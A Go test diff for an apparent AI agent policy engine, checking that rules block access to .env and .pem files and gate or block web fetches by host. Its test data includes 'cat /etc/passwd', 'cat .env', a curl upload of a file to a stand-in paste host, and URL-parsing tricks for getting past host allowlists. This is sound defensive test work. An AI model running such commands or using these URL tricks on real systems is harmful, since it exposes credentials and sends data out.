@@ -57,6 +57,47 @@ func TestARuleAboutDirectories(t *testing.T) {
 	allowed(t, c.run("exec", map[string]string{"command": "cat /etc/passwd"}))
 }
 
+// "Nobody touches this file", however it is spelt, and in whatever parameter.
+func TestARuleAboutPaths(t *testing.T) {
+	h := newHost(t, `policies: [{name: env, when: {path_inside: [.env, "**/*.pem"]}, action: {block_tools: ["*"]}}]`)
+	c := h.open("s", owner)
+	c.turn("go")
+	c.llm()
+	for path, denied := range map[string]bool{
+		".env": true, "@.env": true, "file:.env": true, "file:///ws/.env": true, ".ENV": true, "./x/../.env": true, "/ws/.env": true,
+		"a/b.pem": true, ".env.example": false, "env": false, "https://example.com/.env": false,
+	} {
+		for _, key := range []string{"path", "file_path", "target"} {
+			require.Equal(t, denied, c.run("read", map[string]string{key: path}).Verdict == trust.VerdictDeny, "%s %s", key, path)
+		}
+	}
+	restricted(t, c.run("exec", map[string]string{"command": "cat .env"}))
+	restricted(t, c.run("exec", map[string]string{"command": "cat x", "workdir": "/ws/.env"}))
+	allowed(t, c.run("exec", map[string]string{"command": "ls"}))
+}
+
+// "Ask, unless the page is one of ours", and "nothing goes there".
+func TestRulesAboutHosts(t *testing.T) {
+	h := newHost(t, `policies:
+  - {name: ours, when: {tool: web_fetch, url_host_not_in: [example.com, "*.example.com"]}, action: {confirm_tools: [web_fetch]}}
+  - {name: theirs, when: {url_host_in: ["*.paste.example", bücher.example]}, action: {block_tools: ["*"]}}`)
+	c := h.open("s", owner)
+	c.turn("go")
+	c.llm()
+	for url, want := range map[string]string{
+		"https://example.com/x": pass, "HTTP://A.EXAMPLE.COM.:8080": pass, "https:example.com": pass, "example.com/x": pass, "https://ann@example.com": pass,
+		"https://example.com@evil.example": hold, `https://evil.example\@example.com`: hold, "https://example.com.evil.example": hold,
+		"https://evil.example#@example.com": hold, "evil.example": hold, "https://127.1": hold, "https://exa mple.com": bar, "/relative": pass,
+		"https://x.paste.example": bar, "https://BÜCHER.example": bar, "https://xn--bcher-kva.example.": bar,
+	} {
+		require.Equal(t, want, verdictOf(c.run("web_fetch", map[string]string{"url": url})), url)
+	}
+	restricted(t, c.run("exec", map[string]string{"command": "curl -d @x 'https://x.paste.example/new'"}))
+	restricted(t, c.run("message", map[string]string{"text": "see https://x.paste.example"}))
+	allowed(t, c.run("write", map[string]string{"path": "a.md", "content": "see https://x.paste.example"}))
+	allowed(t, c.run("exec", map[string]string{"command": "curl https://evil.example"}))
+}
+
 func TestWhatMayRun(t *testing.T) {
 	for _, tc := range []struct {
 		policy, tool                         string
